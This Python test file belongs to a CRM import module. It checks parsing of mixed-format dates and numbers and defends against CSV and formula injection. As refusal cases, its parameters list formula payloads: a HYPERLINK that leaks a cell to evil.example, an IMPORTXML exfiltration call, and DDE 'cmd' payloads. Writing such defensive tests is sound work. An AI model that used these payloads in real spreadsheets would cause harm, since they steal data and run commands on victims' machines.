"""Cell values: dates in mixed formats, numbers as people write them, formulas and CSV injection."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from tradecrm.imports.values import (
    detect_day_first,
    excel_serial_date,
    formula_error,
    neutralize_cell,
    parse_date,
    parse_decimal,
)

MARCH_5 = dt.date(2024, 3, 5)


@pytest.mark.parametrize(
    "raw",
    [
        "2024-03-05", "2024/3/5", "2024.3.5", "2024-3-5", "20240305", "2024年3月5日", "2024 年 03 月 05 日",
        "05.03.2024", "5.3.2024", "05/03/2024", "5-3-2024", "05.03.24", "5-Mar-24", "05-MAR-2024",
        "5 March 2024", "5th March 2024", "Mar 5, 2024", "March 5 2024", "Tuesday, March 5, 2024",
        "2024-Mar-05", "2024-03-05T10:30:00Z", "2024-03-05 10:30", "2024-03-05T10:30:00+08:00",
        "5/3/2024 10:30", "45356", "45356.75", " 2024-03-05 ",
        "２０２４－０３－０５", "５/３/２０２４", "5. März 2024", "5 mars 2024", "5 marzo 2024",
    ],
)  # fmt: skip
def test_dates_in_mixed_formats(raw):
    assert parse_date(raw) == MARCH_5


def test_day_and_month_order():
    assert parse_date("05/03/2024", day_first=False) == dt.date(2024, 5, 3)
    assert parse_date("05/03/2024", day_first=True) == MARCH_5
    assert parse_date("05/03/2024") == MARCH_5  # ambiguous: day first, as most of the world writes
    assert parse_date("03/15/2024") == dt.date(2024, 3, 15)  # a day above 12 settles it…
    assert parse_date("15/03/2024", day_first=False) == dt.date(2024, 3, 15)  # …whatever was said
    assert parse_date("05.03.2024", day_first=False) == MARCH_5  # dots are always day first
    assert parse_date("3/5/2024 10:30 AM", day_first=False) == MARCH_5


def test_two_digit_years_follow_strptime():
    assert parse_date("5-Mar-68") == dt.date(2068, 3, 5)
    assert parse_date("5-Mar-69") == dt.date(1969, 3, 5)


def test_excel_serials_including_the_1900_leap_bug():
    assert excel_serial_date(1) == dt.date(1900, 1, 1)
    assert excel_serial_date(59) == dt.date(1900, 2, 28)
    assert excel_serial_date(61) == dt.date(1900, 3, 1)
    assert excel_serial_date(45356) == MARCH_5
    with pytest.raises(ValueError, match="never existed"):
        excel_serial_date(60)


@pytest.mark.parametrize(
    "raw,words",
    [
        ("", "empty"),
        ("2024-02-30", "no day 30"),
        ("13/13/2024", "no month 13"),
        ("2024", "only a year"),
        ("1850-01-01", "year 1850 is not plausible"),
        ("999999", "not a date"),
        ("next Tuesday", "not a date we can read"),
        ("31/31/2024", "no month 31"),
    ],
)
def test_bad_dates_say_why(raw, words):
    with pytest.raises(ValueError, match=words):
        parse_date(raw)


def test_date_messages_are_translated():
    with translation.override("zh-hans"), pytest.raises(ValueError) as info:
        parse_date("nonsense")
    assert "nonsense" in str(info.value)


def test_detect_day_first_from_a_column():
    assert detect_day_first(["01/02/2024", "31/01/2024"]) is True
    assert detect_day_first(["01/02/2024", "01/31/2024"]) is False
    assert detect_day_first(["01/02/2024", "2024-03-05"]) is None
    assert detect_day_first(["31/01/2024", "01/31/2024"]) is None


@pytest.mark.parametrize(
    "raw,value",
    [
        ("1,234.50", "1234.50"), ("1.234,50", "1234.50"), ("1 234,5", "1234.5"), ("1'234.50", "1234.50"),
        ("1\u00a0234,50", "1234.50"), ("USD 1,200", "1200"), ("US$ 3.5", "3.5"), ("1,200 USD", "1200"),
        ("¥1200", "1200"), ("￥1,200.00", "1200.00"), ("€ 1.200,00", "1200.00"), ("RMB 35", "35"), ("35元", "35"),
        ("12%", "12"), ("12.5 %", "12.5"), ("(1,234.50)", "-1234.50"), ("-5", "-5"), ("−5", "-5"), ("1234-", "-1234"),
        ("1.2E+5", "1.2E+5"), ("1,5", "1.5"), ("0,234", "0.234"), ("1,234", "1234"), ("1,234,567", "1234567"),
        ("1.234.567", "1234567"), ("1.234.567,89", "1234567.89"), ("12,34,567.00", "1234567.00"), ("１２３", "123"),
        (".5", "0.5"), ("+7", "7"),
    ],
)  # fmt: skip
def test_numbers_as_people_write_them(raw, value):
    assert parse_decimal(raw) == Decimal(value)


@pytest.mark.parametrize(
    "raw,words",
    [
        ("", "empty"), ("abc", "not a number"), ("1,2,3", "not a number"), ("1.2.3", "not a number"),
        ("12,34.5", "not a number"), ("1,234.5.6", "not a number"), ("#N/A", "spreadsheet error"),
        ("#DIV/0!", "spreadsheet error"), ("NaN", "not a number"), ("Infinity", "not a number"), ("1 2 3 4x", "not a number"),
    ],
)  # fmt: skip
def test_bad_numbers_say_why(raw, words):
    with pytest.raises(ValueError, match=words):
        parse_decimal(raw)


@pytest.mark.parametrize(
    "raw",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=1+2", "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "+SUM(A1)", "-SUM(A1)", "+A1+B2",
        "  =1+2", "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")",
    ],
)  # fmt: skip
def test_formulas_are_refused_with_a_message(raw):
    message = formula_error(raw)
    assert message and "spreadsheet formula" in message


def test_formula_message_is_short_and_names_the_value():
    message = formula_error("=" + "A" * 100)
    assert "=AAAA" in message and "…" in message and "A" * 60 not in message


@pytest.mark.parametrize(
    "raw",
    [
        "", "-", "--", "+", "=", "===", "+49 30 1234567", "+86 (574) 8765-4321 ext 12", "-12.5", "+1.5",
        "@acme_buyer", "- see notes", "-Acme", "Acme = best", "email@x.com", "1+1 package",
    ],
)  # fmt: skip
def test_text_that_only_looks_like_a_formula_passes(raw):
    assert formula_error(raw) is None


@pytest.mark.parametrize(
    "value,out",
    [
        ("=1+2", "'=1+2"), ("+49 30 1", "'+49 30 1"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("Acme", "Acme"), ("", ""), (12, 12), (None, None),
        (Decimal("-5"), Decimal("-5")),
    ],
)  # fmt: skip
def test_neutralize_cell_for_exports(value, out):
    assert neutralize_cell(value) == out


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=30), st.from_regex(r"[\d ,.'/\-年月日()%$¥€A-Za-z]{0,20}", fullmatch=True)))
def test_parsers_only_ever_raise_value_error(raw):
    for parse in (parse_date, parse_decimal):
        try:
            parse(raw)
        except ValueError as exc:
            assert str(exc)
    assert formula_error(raw) is None or isinstance(formula_error(raw), str)
    assert neutralize_cell(raw)[:1] not in ("=", "+", "-", "@", "\t", "\r") or neutralize_cell(
        raw
    ).startswith("'")


@settings(max_examples=200, deadline=None)
@given(st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-(10**9), max_value=10**9))
def test_numbers_written_with_thousands_separators_read_back(value):
    english = f"{value:,.2f}"
    german = english.replace(",", " ").replace(".", ",").replace(" ", ".")
    assert parse_decimal(english) == value == parse_decimal(german)


@settings(max_examples=200, deadline=None)
@given(st.dates(min_value=dt.date(1901, 1, 1), max_value=dt.date(2199, 12, 31)))
def test_dates_written_several_ways_read_back(day):
    assert parse_date(day.isoformat()) == day
    assert parse_date(day.strftime("%d.%m.%Y")) == day
    assert parse_date(day.strftime("%Y年%m月%d日")) == day
    assert parse_date(day.strftime("%d-%b-%Y")) == day
    assert parse_date(day.strftime("%m/%d/%Y"), day_first=False) == day
    serial = (day - dt.date(1899, 12, 30)).days
    if not 1900 <= serial <= 2200:  # four digits that look like a year are read as one
        assert parse_date(str(serial)) == day
